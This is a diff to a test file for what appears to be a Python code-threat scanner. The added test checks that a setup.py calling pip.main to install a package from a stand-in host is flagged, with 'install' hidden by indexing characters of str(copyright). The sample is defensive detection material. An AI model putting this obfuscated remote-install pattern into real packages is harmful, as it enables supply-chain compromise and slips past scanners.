@@ -170,6 +170,18 @@ def test_getattr_with_a_parameter_is_how_libraries_dispatch() -> None:
     )
 
 
+def test_pip_main_given_an_install_spelled_letter_by_letter_is_a_threat() -> None:
+    # "install" picked out of str(copyright) by a means the evaluator does not follow
+    places = ", ".join(str(str(copyright).index(c)) for c in "install")
+    source = (
+        "import pip\nt = str(copyright)\n"
+        f"pip.main([''.join(map(t.__getitem__, [{places}])), 'https://x.example/s.tgz'])\n"
+    )
+    assert "CPL-THR-019" in danger(source, "setup.py")
+    # pip's own entry point hands main() the user's arguments
+    assert "CPL-THR-019" not in danger("import pip, sys\npip.main(sys.argv[1:])\n", "setup.py")
+
+
 def test_pip_main_installing_a_second_stage_is_a_threat_but_pip_itself_is_not() -> None:
     assert "CPL-THR-019" in danger('import pip\npip.main(["install", "https://x.example/s.tgz"])\n')
     # pip's own entry point calls main() with the user's arguments
